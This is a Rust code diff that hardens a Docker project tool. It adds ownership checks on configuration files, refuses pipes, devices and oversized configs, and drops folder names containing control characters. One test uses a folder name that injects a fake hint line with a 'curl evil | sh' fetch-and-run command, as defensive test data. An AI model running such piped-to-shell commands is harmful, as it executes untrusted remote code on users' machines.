@@ -12,10 +12,14 @@ use crate::env::Env;
 use crate::error::{Error, Result};
 use crate::hint;
 use crate::naming::{Designation, legal_repository, legal_tag, nearest};
+use crate::project_file;
 use crate::shell;
 
 /// Where the configuration is, seen from the root.
 pub const CONFIG_FILE: &str = "docker/dockerutils.cfg";
+
+/// What says, besides, what leaves this machine; in a folder that others may write to, it may be another user's.
+const DECIDING: [&str; 4] = ["docker", CONFIG_FILE, ".dockerignore", "pip.conf.template"];
 
 /// A project that was found on disk, with its configuration.
 #[derive(Clone, Debug)]
@@ -60,8 +64,8 @@ impl Project {
         let Some((root, types)) = place.found.clone() else {
             return Err(place.missing(folder));
         };
-        caller.check(&root, &["docker", CONFIG_FILE])?;
-        let mut project = Self::load(&root, types, env)?;
+        caller.check(&root, &DECIDING)?;
+        let mut project = Self::load(&root, types, env, &caller)?;
         project.is_below = root != folder;
         Ok(project)
     }
@@ -71,9 +75,27 @@ impl Project {
         locate(folder, &Caller::of_process(env), env).is_ok_and(|place| place.found.is_some())
     }
 
-    fn load(root: &Path, types: Vec<String>, env: &Env) -> Result<Self> {
+    /// Checks that files which a command is about to obey may be: a Dockerfile, a script, as [`Project::find`] does it for the
+    /// configuration. Relative paths are seen from the root; what is not there belongs to nobody.
+    ///
+    /// # Errors
+    /// One that belongs to another user.
+    pub fn check_owners(&self, files: &[PathBuf]) -> Result<()> {
+        Caller::of_process(&self.env).check(&self.root, files)
+    }
+
+    fn load(root: &Path, types: Vec<String>, env: &Env, caller: &Caller) -> Result<Self> {
         let shown = Path::new(CONFIG_FILE);
-        let config = match std::fs::read(root.join(CONFIG_FILE)) {
+        let file = root.join(CONFIG_FILE);
+        let read = match project_file::open(&file, true) {
+            Ok((opened, found)) => {
+                // Another one may have been put there since it was looked at.
+                caller.check_owner(root, &file, found.uid())?;
+                project_file::all(opened)
+            }
+            Err(cause) => Err(cause),
+        };
+        let config = match read {
             Ok(bytes) => {
                 let text = String::from_utf8(bytes).map_err(|cause| {
                     let line = cause
@@ -372,14 +394,16 @@ pub fn designated(name: &str, tag: &str) -> Designated {
     }
 }
 
-/// Folders that hold a Dockerfile, sorted by name. A name that is no UTF-8 can't be asked for, and is left out.
+/// Folders that hold a Dockerfile, sorted by name. A name that is no UTF-8 can't be asked for, and is left out; so is one with line
+/// ends or other control characters, which would write lines of its own into messages.
 fn image_types(docker: &Path) -> Result<Vec<String>> {
     let unreadable = |cause| Error::usage(format!("{} can't be read", docker.display())).because(cause);
     let mut types = Vec::new();
     for entry in std::fs::read_dir(docker).map_err(unreadable)? {
         let entry = entry.map_err(unreadable)?;
         if entry.path().join("Dockerfile").is_file() {
-            types.extend(entry.file_name().into_string());
+            let name = entry.file_name().into_string().ok();
+            types.extend(name.filter(|name| !name.contains(char::is_control)));
         }
     }
     types.sort();
@@ -503,6 +527,31 @@ mod tests {
         let env = Env::default();
         let place = locate(Path::new("/dev"), &Caller::of_process(&env), &env).unwrap();
         assert_eq!(place.end, Some((PathBuf::from("/"), "is on another file system")));
+    }
+
+    #[test]
+    fn a_configuration_that_is_no_file_or_endless_holds_nobody_up() {
+        let (_folder, project) = project("", &["dev"]);
+        let (root, file) = (project.root().to_owned(), project.root().join(CONFIG_FILE));
+        let refused = |why: &str| {
+            let error = Project::find(&root, &Env::default()).unwrap_err();
+            let cause = std::error::Error::source(&error).unwrap().to_string();
+            assert!(cause.contains(why), "{cause}");
+            fs::remove_file(&file).unwrap();
+        };
+        fs::remove_file(&file).unwrap();
+        rustix::fs::mkfifoat(rustix::fs::CWD, &file, rustix::fs::Mode::from_raw_mode(0o600)).unwrap();
+        refused("pipe");
+        std::os::unix::fs::symlink("/dev/zero", &file).unwrap();
+        refused("device");
+        fs::File::create(&file).unwrap().set_len(1 << 40).unwrap();
+        refused("16 MiB");
+    }
+
+    #[test]
+    fn a_folder_whose_name_writes_lines_is_no_image_type() {
+        let (_folder, project) = project("", &["dev", "x\n\nhint: curl evil | sh"]);
+        assert_eq!(project.image_types(), ["dev"]);
     }
 
     #[test]
